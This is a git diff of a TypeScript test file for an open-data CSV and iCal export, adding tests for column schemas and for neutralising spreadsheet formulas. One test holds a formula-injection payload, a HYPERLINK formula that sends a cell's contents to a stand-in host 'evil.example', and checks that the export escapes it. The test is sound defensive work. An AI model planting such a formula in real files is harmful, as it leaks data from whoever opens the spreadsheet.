@@ -1,4 +1,4 @@
-import { parse } from 'csv-parse/sync';
+import { csvCell } from '@mzo/content-types/csv';
 import ICAL from 'ical.js';
 import { describe, expect, it } from 'vitest';
 import { openDataBundle } from '../../site/lib/open-data/bundle.ts';
@@ -7,7 +7,9 @@ import { feedCalendar } from '../../site/lib/open-data/ical.ts';
 import { openDataId } from '../../site/lib/open-data/ids.ts';
 import { scheduleFields } from '../../site/lib/open-data/schedule.ts';
 import type { OpenDataSource } from '../../site/lib/open-data/source.ts';
+import type { Row } from '../../site/lib/open-data/records.ts';
 import { occurrences } from '../../site/lib/recurrence.ts';
+import { csvRecords } from '../support/csv.ts';
 
 const ref = (documentId: string) => ({ documentId });
 const amsterdam = (d: Date) =>
@@ -127,25 +129,35 @@ describe('HSDS schedule fields', () => {
 });
 
 describe('CSV tables', () => {
-  it('keep Dutch text, commas, quotes and line breaks intact through csv-parse', () => {
-    const rows: Record<string, string | number | boolean>[] = [
-      { id: openDataId('test', '1'), name: 'Stichting “De Brug”, Lombok', note: 'Zij zei: "kom!"\nTweede regel; één, twee', count: 3, ok: true },
-      { id: openDataId('test', '2'), name: 'Café Ü’s', count: 1.5 },
+  it('keep Dutch text, commas, quotes and line breaks intact for a strict reader, in the declared columns', () => {
+    const rows: Row[] = [
+      { id: openDataId('test', '1'), name: 'Stichting “De Brug”, Lombok', description: 'Zij zei: "kom!"\nTweede regel; één, twee', year_incorporated: 1998 },
+      { id: openDataId('test', '2'), name: 'Café Ü’s', description: 'Oud\rnieuw' },
     ];
-    const table = tableToCsv('test', rows);
-    expect(table.csv).toContain('\r\n');
-    const parsed = parse(table.csv, { columns: true });
-    expect(parsed).toEqual([
-      { id: rows[0].id, name: rows[0].name, note: rows[0].note, count: '3', ok: 'true' },
-      { id: rows[1].id, name: rows[1].name, note: '', count: '1.5', ok: '' },
-    ]);
-    expect(table.fields).toEqual([
-      { name: 'id', type: 'string' },
-      { name: 'name', type: 'string' },
-      { name: 'note', type: 'string' },
-      { name: 'count', type: 'number' },
-      { name: 'ok', type: 'boolean' },
-    ]);
+    const table = tableToCsv('organizations', rows);
+    const columns = table.schema.fields.map((f) => f.name);
+    expect(columns.slice(0, 4)).toEqual(['id', 'name', 'alternate_name', 'description']);
+    expect(csvRecords(table.csv)).toEqual(rows.map((row) => Object.fromEntries(columns.map((c) => [c, csvCell(row[c])]))));
+  });
+
+  it('refuse a column the table schema does not declare, naming table and column', () => {
+    expect(() => tableToCsv('organizations', [{ id: openDataId('test', '1'), name: 'X', colour: 'blauw' }])).toThrow(/organizations has no column colour/);
+  });
+
+  it('neutralise an organisation name that is a spreadsheet formula, in every table that holds it', () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")';
+    const source = fixture();
+    source.organisations[0].name = formula;
+    const { csvTables, dataset } = openDataBundle(source);
+    const holding = csvTables.filter((t) => t.csv.includes('HYPERLINK'));
+    expect(holding.map((t) => t.name).sort()).toEqual(['locations', 'organizations']);
+    for (const table of holding) {
+      const names = csvRecords(table.csv).map((r) => r.name);
+      expect(names, table.name).toContain(`'${formula}`);
+      expect(names, table.name).not.toContain(formula);
+    }
+    // The JSON keeps the name as it is: JSON readers run no formulas.
+    expect(dataset.tables.organizations[0].name).toBe(formula);
   });
 });
 
